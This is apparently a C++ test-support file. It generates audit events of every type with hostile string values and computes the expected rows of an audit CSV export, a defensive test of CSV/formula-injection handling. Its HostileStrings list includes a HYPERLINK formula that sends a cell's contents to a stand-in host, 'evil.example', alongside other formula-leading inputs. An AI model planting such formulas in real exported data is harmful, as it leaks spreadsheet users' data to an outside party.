#include "tests/support/audit_events.h"

#include <google/protobuf/descriptor.h>
#include <google/protobuf/reflection.h>

#include "events/codec.h"
#include "projections/audit_csv.h"

namespace clawvisor::testing {
namespace {

namespace pb = google::protobuf;

void Fill(pb::Message& message, const std::string& path, const v1::Envelope& envelope,
          Sealer& sealer, size_t& next) {
  const auto* descriptor = message.GetDescriptor();
  const auto* reflection = message.GetReflection();
  const auto& hostile = HostileStrings();
  for (int i = 0; i < descriptor->field_count(); ++i) {
    const auto* field = descriptor->field(i);
    const std::string field_path = path + "." + field->name();
    using F = pb::FieldDescriptor;
    if (field->is_repeated()) {
      if (field->cpp_type() == F::CPPTYPE_STRING) {
        reflection->AddString(&message, field, "\x01hash-a");
        reflection->AddString(&message, field, "\x02hash-b");
      }
      continue;
    }
    switch (field->cpp_type()) {
      case F::CPPTYPE_STRING:
        if (field->type() == F::TYPE_BYTES) {
          reflection->SetString(&message, field, std::string(32, '\xAB'));
        } else {
          reflection->SetString(&message, field, hostile[next++ % hostile.size()]);
        }
        break;
      case F::CPPTYPE_INT32:
      case F::CPPTYPE_INT64:
        reflection->SetInt64(&message, field,
                             1'700'000'000'000'000LL + static_cast<int64_t>(next++));
        break;
      case F::CPPTYPE_UINT32:
        reflection->SetUInt32(&message, field, static_cast<uint32_t>(7 + next++));
        break;
      case F::CPPTYPE_UINT64:
        reflection->SetUInt64(&message, field, 1000 + next++);
        break;
      case F::CPPTYPE_BOOL:
        reflection->SetBool(&message, field, true);
        break;
      case F::CPPTYPE_ENUM:
        reflection->SetEnumValue(
            &message, field,
            field->enum_type()->value_count() > 1 ? field->enum_type()->value(1)->number() : 0);
        break;
      case F::CPPTYPE_MESSAGE: {
        auto* child = reflection->MutableMessage(&message, field);
        if (field->message_type() == v1::Sealed::descriptor()) {
          const bool email = field->name() == "email";
          auto sealed = sealer.Seal({envelope.account_id(), envelope.event_id(), field_path},
                                    email ? kAuditTestEmail : kAuditTestSecret);
          if (sealed) child->CopyFrom(*sealed);
        } else {
          Fill(*child, field_path, envelope, sealer, next);
        }
        break;
      }
      default:
        break;
    }
  }
}

std::string_view KindName(v1::Actor::Kind kind) {
  static const std::map<v1::Actor::Kind, std::string_view> names = {
      {v1::Actor::KIND_USER, "user"},
      {v1::Actor::KIND_SERVICE, "service"},
      {v1::Actor::KIND_OPERATOR, "operator"},
      {v1::Actor::KIND_RECONCILER, "reconciler"},
      {v1::Actor::KIND_SYSTEM, "system"}};
  auto it = names.find(kind);
  return it == names.end() ? "" : it->second;
}

}  // namespace

const std::vector<std::string>& HostileStrings() {
  static const std::vector<std::string> strings = {
      "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
      "+1+1,=2",
      "-2+3",
      "@SUM(A1:A9)",
      "\t=tab first",
      "\r=carriage return first",
      "quote \" inside, and comma",
      "line\nbreak\r\nand CRLF",
      "ünïcödé ✓ 😀 日本語",
      "  leading spaces",
      "\"=quoted formula\"",
      "back\\slash {json: \"like\"}",
  };
  return strings;
}

std::vector<v1::Envelope> EveryEventType(const std::string& account, Sealer& sealer,
                                         int64_t start_us, int64_t step_us) {
  std::vector<v1::Envelope> out;
  const auto* oneof = v1::Envelope::descriptor()->FindOneofByName("payload");
  const auto& hostile = HostileStrings();
  size_t next = 0;
  for (int i = 0; i < oneof->field_count(); ++i) {
    const auto* field = oneof->field(i);
    v1::Envelope e;
    e.set_event_id((i % 3 == 0 ? "=" : "") + std::string("evt-") + std::to_string(i) + "-" +
                   std::string(field->name()));
    e.set_account_id(account);
    const bool instance = field->number() >= 100 && field->number() < 200;
    e.set_aggregate_type(instance ? v1::AGGREGATE_TYPE_INSTANCE : v1::AGGREGATE_TYPE_ACCOUNT);
    e.set_aggregate_id(instance ? hostile[next++ % hostile.size()] : account);
    e.set_aggregate_version(static_cast<uint64_t>(i + 1));
    e.set_occurred_at_us(start_us + step_us * i);
    auto* actor = e.mutable_actor();
    actor->set_kind(static_cast<v1::Actor::Kind>(1 + i % 5));
    actor->set_id(hostile[next++ % hostile.size()]);
    actor->set_role(static_cast<v1::Role>(i % 4));
    actor->set_source_ip(hostile[next++ % hostile.size()]);
    actor->set_user_agent(hostile[next++ % hostile.size()]);
    e.set_command_id("cmd-" + std::to_string(i));
    e.set_schema_version(kSchemaVersion);
    auto* payload = e.GetReflection()->MutableMessage(&e, field);
    Fill(*payload, std::string(field->name()), e, sealer, next);
    out.push_back(std::move(e));
  }
  return out;
}

ExpectedAuditRow ExpectedRow(const v1::Envelope& event, bool owner) {
  ExpectedAuditRow row;
  auto& c = row.cells;
  c["time"] = FormatTimestampUs(event.occurred_at_us());
  c["event_id"] = event.event_id();
  c["account"] = event.account_id();
  c["actor_kind"] = std::string(KindName(event.actor().kind()));
  c["actor_id"] = event.actor().id();
  static const std::map<v1::Role, std::string> roles = {
      {v1::ROLE_OWNER, "owner"}, {v1::ROLE_ADMIN, "admin"}, {v1::ROLE_VIEWER, "viewer"}};
  c["actor_role"] = roles.contains(event.actor().role()) ? roles.at(event.actor().role()) : "";
  c["source_ip"] = event.actor().source_ip();
  c["user_agent"] = event.actor().user_agent();
  c["action"] = std::string(AuditAction(event.payload_case()));
  c["target_type"] = event.aggregate_type() == v1::AGGREGATE_TYPE_INSTANCE ? "instance" : "account";
  c["target_id"] = event.aggregate_id();
  c["outcome"] = event.has_command_rejected() ? "rejected" : "";
  if (c["outcome"].empty()) c.erase("outcome");  // success/failure: checked by the unit tests

  // Every free-text field of the payload shows up in details under its own name (or the
  // documented rename); emails as the reader may see them.
  const auto* oneof = v1::Envelope::descriptor()->FindOneofByName("payload");
  const auto* field = event.GetReflection()->GetOneofFieldDescriptor(event, oneof);
  if (field != nullptr) {
    const auto& payload = event.GetReflection()->GetMessage(event, field);
    const auto* d = payload.GetDescriptor();
    for (int i = 0; i < d->field_count(); ++i) {
      const auto* f = d->field(i);
      if (f->is_repeated()) continue;
      if (f->cpp_type() == pb::FieldDescriptor::CPPTYPE_STRING &&
          f->type() == pb::FieldDescriptor::TYPE_STRING) {
        std::string key = f->name();
        if (key == "command_type") key = "command";
        if (key == "display_name_masked") key = "display_name";
        if (key == "last4") continue;          // shown masked: checked by the unit tests
        if (key.ends_with("_hash")) continue;  // hashes (a spent recovery code's) never appear
        row.details[key] = payload.GetReflection()->GetString(payload, f);
      }
      if (f->name() == "email" && f->message_type() == v1::Sealed::descriptor()) {
        row.details["email"] = owner ? std::string(kAuditTestEmail) : MaskEmail(kAuditTestEmail);
      }
    }
  }
  row.details["command_id"] = event.command_id();
  return row;
}

}  // namespace clawvisor::testing
